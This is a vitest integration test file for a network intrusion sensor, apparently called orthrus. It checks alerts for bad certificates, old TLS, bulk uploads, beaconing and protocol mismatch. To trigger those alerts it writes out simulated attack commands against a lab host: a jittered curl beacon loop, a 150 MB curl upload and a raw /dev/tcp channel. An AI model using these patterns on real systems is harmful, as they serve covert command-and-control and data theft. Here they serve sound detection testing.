import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { createServer as listenAt } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { describe, expect, test } from 'vitest'
import { isRoot } from '../capture/support/root.ts'
import { Authority, type Pair, selfSigned } from './support/authority.ts'
import { caught } from './support/caught.ts'
import { barks, have, internet, LinkLab, victim } from './support/link.ts'

// What a device of ours does with a server of the internet, with real programs at both ends.

const name = 'server.example.net'
const from = { source: { ip: victim.ip, mac: '02-00-5E-00-53-10' } }
const to = (port: number) => ({ destination: { ip: internet.ip, port } })

/** What `openssl s_server` and curl need for versions that are retired. */
const retired = ['-cipher', 'DEFAULT@SECLEVEL=0']

/** A visit by curl to a page of `openssl s_server`. */
async function visit(
  lab: LinkLab,
  { keyFile, certFile }: Pair,
  server: readonly string[],
  client: readonly string[],
): Promise<void> {
  await lab.resolver({ [name]: internet.ip })
  const pair = ['-key', keyFile, '-cert', certFile, '-www']
  lab.start(internet, 'openssl', 's_server', '-accept', '443', ...pair, ...server)
  await lab.listening(internet, 443)
  const page = await lab.run(victim, 'curl', '-sk', '-m', '10', ...client, `https://${name}/`)
  expect(page).toContain('Ciphers supported')
}

/** Seconds of event time: uploads and tunnels are told at the report of a minute, all else at once. */
const window = { by: victim, within: 120 }

describe.skipIf(!isRoot || !have('openssl', 'curl', 'dnsmasq', 'tcpdump'))(
  'openssl s_server with',
  () => {
    test('a certificate that signs itself is one alert', async () => {
      await using lab = new LinkLab()
      const pair = selfSigned(lab.directory, name)
      const alerts = await caught(lab, window, () => visit(lab, pair, ['-tls1_2'], []))
      const der = execFileSync('openssl', ['x509', '-in', pair.certFile, '-outform', 'DER'])
      expect(alerts).toMatchObject([
        {
          rule: { name: 'Self-Signed Certificate of a Server Outside' },
          ...from,
          ...to(443),
          tls: {
            version: '1.2',
            client: { server_name: name },
            server: {
              subject: `CN=${name}`,
              hash: { sha256: createHash('sha256').update(der).digest('hex').toUpperCase() },
            },
          },
        },
      ])
    })

    test('an expired certificate is one alert', async () => {
      await using lab = new LinkLab()
      const pair = new Authority(lab.directory).sign(name, '20240101', '20250101')
      expect(await caught(lab, window, () => visit(lab, pair, ['-tls1_2'], []))).toMatchObject([
        {
          rule: { name: 'Expired Certificate of a Server Outside' },
          ...from,
          ...to(443),
          tls: {
            server: {
              not_after: '2025-01-01T00:00:00.000Z',
              issuer: 'O=Example Trust, CN=Example Root',
            },
          },
        },
      ])
    })

    test('TLS 1.0 is one alert', async () => {
      await using lab = new LinkLab()
      const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
      const old = ['--tlsv1.0', '--tls-max', '1.0', '--ciphers', 'DEFAULT@SECLEVEL=0']
      const alerts = await caught(lab, window, () => visit(lab, pair, ['-tls1', ...retired], old))
      expect(alerts).toMatchObject([
        {
          rule: { name: 'TLS Below 1.2 Negotiated' },
          ...from,
          ...to(443),
          tls: { version: '1.0', established: true },
        },
      ])
    })

    test('a certificate of an authority and TLS 1.2 is no alert', async () => {
      await using lab = new LinkLab()
      const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
      const sensor = await lab.watch()
      await visit(lab, pair, ['-tls1_2'], [])
      await sleep(5000) // until its conversation has ended
      expect(await sensor.end()).toBe(0)
      const { alerts, flows } = sensor.summary.orthrus.sensor
      expect(alerts.raised).toBe(0)
      expect(flows.ended).toBeGreaterThanOrEqual(2) // a question and a visit
    })
  },
)

describe.skipIf(!isRoot || !have('curl', 'dnsmasq', 'tcpdump'))('curl', () => {
  test('that uploads 150 MB is one alert', async () => {
    await using lab = new LinkLab()
    const server = createServer((question, answer) => {
      question.resume().on('end', () => answer.end('thanks'))
    })
    lab.space(internet).inside(() => server.listen(80))
    writeFileSync(lab.path('archive'), Buffer.alloc(150e6, 'all that we know '))
    const alerts = await caught(lab, window, async () => {
      await lab.resolver({ [name]: internet.ip })
      const said = await lab.run(victim, 'curl', '-sT', lab.path('archive'), `http://${name}/`)
      expect(said).toBe('thanks')
    })
    server.close()
    expect(alerts).toMatchObject([
      {
        rule: { name: 'Large Upload' },
        ...from,
        ...to(80),
        orthrus: {
          signal: {
            name: 'exfiltration',
            entity: victim.ip,
            evidence: { destination: name, habit: 'unknown', known_service: false },
          },
        },
      },
    ])
    const [{ orthrus }] = alerts as unknown as [{ orthrus: Evidence }]
    expect(orthrus.signal.evidence['bytes_out']).toBeGreaterThan(150e6)
    expect(orthrus.signal.evidence['bytes_in']).toBeLessThan(1000)
  })
})

describe.skipIf(!isRoot || !have('curl', 'dnsmasq', 'tcpdump'))('a beacon by curl', () => {
  test('of seconds instead of minutes is one alert', { timeout: 120_000 }, async () => {
    await using lab = new LinkLab()
    const server = createServer((_, answer) => answer.end('nothing to do'))
    lab.space(internet).inside(() => server.listen(80))
    await lab.resolver({ [name]: internet.ip })
    const sensor = await lab.watch('detectors: { beacon: { span: 10s, learning: 0 } }\n')
    const loop = `while :; do curl -s http://${name}/orders; sleep 1.2$((RANDOM % 10)); done`
    lab.start(victim, 'bash', '-c', loop)
    await sensor.until(() => barks(sensor).length > 0, 'there was no alert', 90_000)
    await sleep(3000) // and no second one
    expect(await sensor.end()).toBe(0)
    server.close()
    expect(barks(sensor)).toMatchObject([
      {
        rule: { name: 'Regular Connections to a New Destination' },
        ...from,
        ...to(80),
        orthrus: { signal: { entity: victim.ip, evidence: { destination: name, habit: 'new' } } },
      },
    ])
  })
})

interface Evidence {
  readonly signal: { readonly evidence: Readonly<Record<string, number>> }
}

/** Talks over /dev/tcp in a protocol of its own. */
const chatter = `exec 3<>/dev/tcp/${internet.ip}/443
for i in 1 2 3 4 5; do printf 'order %s please, as we agreed\\n' $i >&3; read -r line <&3; done`

describe.skipIf(!isRoot || !have('tcpdump'))('what is no TLS on 443', () => {
  test('is one alert', async () => {
    await using lab = new LinkLab()
    const server = listenAt(socket => {
      socket.on('data', said => socket.write(`you said ${said}`)).on('error', () => undefined)
    })
    lab.space(internet).inside(() => server.listen(443))
    const alerts = await caught(lab, window, () => lab.run(victim, 'bash', '-c', chatter))
    server.close()
    expect(alerts).toMatchObject([
      {
        rule: { name: 'Port Says One Thing, Content Another' },
        ...from,
        ...to(443),
        orthrus: {
          signal: { name: 'protocol-mismatch', evidence: { usual: ['tls'], named: false } },
        },
      },
    ])
  })
})
